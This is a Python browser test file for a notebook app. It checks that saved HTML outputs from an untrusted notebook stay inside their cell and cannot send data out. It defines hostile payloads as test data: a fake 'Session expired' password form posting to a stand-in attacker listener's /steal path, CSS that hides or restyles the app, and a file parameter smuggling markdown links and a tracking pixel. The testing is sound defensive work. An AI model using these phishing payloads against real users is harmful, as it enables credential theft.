"""HTML outputs stay in their cell's box (Chromium): no overlay, no app styling, no form post.

The notebook comes from someone else, with its outputs saved: opening it is enough for
them to be drawn. A listener on a free port stands for the attacker's host.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import nbformat
import pytest

from neuralis.notebook import read_notebook, write_notebook
from tests.browser.conftest import Server, free_port
from tests.browser.test_notebook_browser import open_notebook
from tests.ui.conftest import make_notebook

pytestmark = pytest.mark.browser

STYLE = """<style>
  body, .stApp, [data-testid="stSidebar"] {{ display: none !important; }}
  * {{ color: rgb(255, 0, 0) !important; background: rgb(255, 0, 0) !important; }}
  @import url(http://127.0.0.1:{port}/style.css);
</style>"""
FORM = """<div id="overlay" style="position: fixed; inset: 0; top: 0; left: 0; width: 100vw;
     height: 100vh; z-index: 999999; background: white; transform: translateY(-300px)">
  <h1>Session expired</h1>
  <form action="http://127.0.0.1:{port}/steal" method="post">
    <input type="password" name="password" placeholder="Password">
    <button type="submit">Sign in again</button>
  </form>
</div>"""
OVERLAY = STYLE + FORM
SCRIPTED = FORM + "<script>document.title = 'scripted';</script>"


class Listener:
    """An HTTP server that records every request it gets (the attacker's host)."""

    def __init__(self) -> None:
        self.port = free_port()
        self.seen: list[str] = []
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(f"GET {self.path}")
                self.send_response(204)
                self.end_headers()

            def do_POST(self) -> None:
                seen.append(f"POST {self.path}")
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)


@pytest.fixture
def listener() -> Iterator[Listener]:
    srv = Listener()
    yield srv
    srv.close()


def html_output(markup: str) -> Any:
    return nbformat.v4.new_output("display_data", data={"text/html": markup, "text/plain": "<x>"})


def notebook_with_outputs(folder: Path, name: str, outputs: list[str]) -> list[str]:
    """Write a notebook whose cells carry saved HTML outputs; return the cell ids."""
    ids = make_notebook(folder, name, [f"# output {i}" for i in range(len(outputs))])
    nb = read_notebook(folder / name)
    for cell, markup in zip(nb.cells, outputs, strict=True):
        cell.outputs = [html_output(markup)]
        cell.execution_count = 1
    write_notebook(nb, folder / name)
    return ids


def box_of(page: Any, cell_id: str) -> dict[str, float]:
    return dict(page.locator(f'[class*="st-key-box-{cell_id}"]').first.bounding_box())


def inside(inner: dict[str, float], outer: dict[str, float]) -> bool:
    return (
        inner["x"] >= outer["x"] - 1
        and inner["y"] >= outer["y"] - 1
        and inner["x"] + inner["width"] <= outer["x"] + outer["width"] + 1
        and inner["y"] + inner["height"] <= outer["y"] + outer["height"] + 1
    )


OUTPUT_OUTSIDE = """box => {
  let hits = 0;
  for (let x = 5; x < innerWidth; x += 40) for (let y = 5; y < innerHeight; y += 40) {
    const outside = x < box.x || x > box.x + box.width || y < box.y || y > box.y + box.height;
    const hit = document.elementFromPoint(x, y);
    if (outside && hit && hit.closest(".neuralis-html")) hits++;
  }
  return hits;
}"""


def assert_app_untouched(page: Any) -> None:
    """The app's own controls are visible, on top at their own place, and not restyled."""
    run_all = page.get_by_role("button", name="Run all", exact=True)
    assert run_all.is_visible()
    on_top = run_all.evaluate(
        """b => { const r = b.getBoundingClientRect();
                  const hit = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
                  return b.contains(hit); }"""
    )
    assert on_top, "something covers the app's Run all button"
    assert page.locator('[data-testid="stSidebar"]').is_visible()
    colours = run_all.evaluate(
        "b => [getComputedStyle(b).color, getComputedStyle(b).backgroundColor,"
        " getComputedStyle(document.body).display]"
    )
    assert "rgb(255, 0, 0)" not in colours[:2] and colours[2] != "none", colours


def test_an_overlay_with_a_password_form_stays_in_its_cell(
    page: Any, server: Server, listener: Listener
) -> None:
    (cid,) = notebook_with_outputs(
        server.notebook_dir, "overlay.ipynb", [OVERLAY.format(port=listener.port)]
    )
    open_notebook(page, server, "overlay.ipynb")
    page.get_by_text("Session expired").first.wait_for()
    assert_app_untouched(page)
    assert page.locator("input[type=password]").count() == 0  # no form to type into
    page.keyboard.type("hunter2")
    page.keyboard.press("Enter")
    cell_box = box_of(page, cid)
    assert inside(dict(page.locator(".neuralis-html").first.bounding_box()), cell_box)
    assert page.evaluate(OUTPUT_OUTSIDE, cell_box) == 0  # nothing of it is drawn outside
    time.sleep(1)
    assert listener.seen == []


def test_a_scripted_overlay_runs_in_a_frame_that_posts_nothing(
    page: Any, server: Server, listener: Listener
) -> None:
    (cid,) = notebook_with_outputs(
        server.notebook_dir, "scripted.ipynb", [SCRIPTED.format(port=listener.port)]
    )
    open_notebook(page, server, "scripted.ipynb")
    frame_element = page.locator('iframe[src^="data:text/html"]').first
    frame_element.wait_for()
    frame = frame_element.element_handle().content_frame()
    frame.get_by_text("Session expired").wait_for()
    assert_app_untouched(page)
    assert inside(dict(frame_element.bounding_box()), box_of(page, cid))
    password = frame.locator("input[type=password]")
    password.fill("hunter2")
    password.press("Enter")  # submits the form
    frame.evaluate("() => document.forms[0].requestSubmit()")
    time.sleep(1)
    assert listener.seen == []  # the frame's policy forbids sending a form anywhere
    assert_app_untouched(page)


def test_dataframe_and_styler_outputs_still_look_right(page: Any, server: Server) -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"city": ["Oslo", "Lima"], "rain": [0.5, 3.3]})
    styled = frame.style.highlight_max(subset=["rain"], color="yellow")
    styled = styled.set_table_styles([{"selector": "th", "props": [("color", "rgb(0, 0, 255)")]}])
    notebook_with_outputs(
        server.notebook_dir, "frames.ipynb", [frame._repr_html_(), styled._repr_html_()]
    )
    open_notebook(page, server, "frames.ipynb")
    page.locator("table.dataframe").first.wait_for()
    assert page.locator("table.dataframe tbody tr").count() == 2
    cell = page.locator("td", has_text="3.300000").first
    cell.wait_for()
    assert cell.evaluate("c => getComputedStyle(c).backgroundColor") == "rgb(255, 255, 0)"
    heading = page.locator("th", has_text="rain").nth(1)
    assert heading.evaluate("h => getComputedStyle(h).color") == "rgb(0, 0, 255)"
    other = page.locator("td", has_text="0.500000").first
    assert other.evaluate("c => getComputedStyle(c).backgroundColor") != "rgb(255, 255, 0)"
    assert_app_untouched(page)


def test_the_file_parameter_draws_no_link_and_loads_no_image(
    page: Any, server: Server, listener: Listener
) -> None:
    host = f"http://127.0.0.1:{listener.port}"
    name = f"[Session expired, log in]({host}/login) ![x]({host}/pixel.png)"
    page.goto(f"{server.url}/?file={quote(name)}")
    page.get_by_text("is not a notebook name").first.wait_for()
    assert page.locator(f'a[href^="{host}"], img[src^="{host}"]').count() == 0
    assert page.get_by_text("[Session expired, log in](").count() >= 1  # shown as written
    time.sleep(1)
    assert listener.seen == []
